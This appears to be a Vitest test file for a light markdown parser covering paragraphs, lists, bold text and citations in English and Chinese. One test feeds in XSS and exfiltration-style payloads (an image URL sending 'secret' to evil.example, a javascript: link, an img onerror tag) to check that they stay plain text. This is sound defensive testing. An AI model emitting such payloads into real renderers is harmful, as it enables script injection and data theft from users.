import { describe, expect, it } from 'vitest';
import { parseLightMarkdown, type Inline } from './light-markdown.ts';

const none = new Set<number>();
const text = (words: string): Inline => ({ kind: 'text', text: words });

describe('parseLightMarkdown', () => {
  it('makes paragraphs of text between empty lines, and lines within them', () => {
    expect(parseLightMarkdown('One\ntwo\n\n\nThree', none)).toEqual([
      { kind: 'paragraph', lines: [[text('One')], [text('two')]] },
      { kind: 'paragraph', lines: [[text('Three')]] },
    ]);
  });

  it('makes lists of bullets and of numbers, in both languages’ ways', () => {
    expect(parseLightMarkdown('- a\n* b\n\n1. c\n2、 d', none)).toEqual([
      { kind: 'list', ordered: false, items: [[text('a')], [text('b')]] },
      { kind: 'list', ordered: true, items: [[text('c')], [text('d')]] },
    ]);
  });

  it('makes bold what stands between double asterisks, and leaves lone ones', () => {
    expect(parseLightMarkdown('a **b** c ** d', none)).toEqual([
      { kind: 'paragraph', lines: [[text('a '), { kind: 'bold', text: 'b' }, text(' c ** d')]] },
    ]);
  });

  it('keeps a citation with the word before it and the stop after it', () => {
    expect(parseLightMarkdown('Within 7 days [1]. 七天内可退[2]。', new Set([1, 2]))).toEqual([
      {
        kind: 'paragraph',
        lines: [
          [
            text('Within 7 '),
            { kind: 'citation', index: 1, lead: 'days', tail: '.' },
            text(' 七天内可'),
            { kind: 'citation', index: 2, lead: '退', tail: '。' },
          ],
        ],
      },
    ]);
  });

  it('leaves a marker that cites nothing as text', () => {
    expect(parseLightMarkdown('See [3]', none)).toEqual([{ kind: 'paragraph', lines: [[text('See [3]')]] }]);
  });

  it.each([
    '![x](https://evil.example/?q=secret)',
    '[click](javascript:alert(1))',
    '<img src=x onerror=alert(1)>',
    '[1](https://evil.example)',
  ])('leaves links, images and HTML the text they are: %s', (line) => {
    expect(parseLightMarkdown(line, new Set([1]))).toEqual([{ kind: 'paragraph', lines: [[text(line)]] }]);
  });

  it('takes a heading as a bold line', () => {
    expect(parseLightMarkdown('## Returns', none)).toEqual([
      { kind: 'paragraph', lines: [[{ kind: 'bold', text: 'Returns' }]] },
    ]);
  });
});
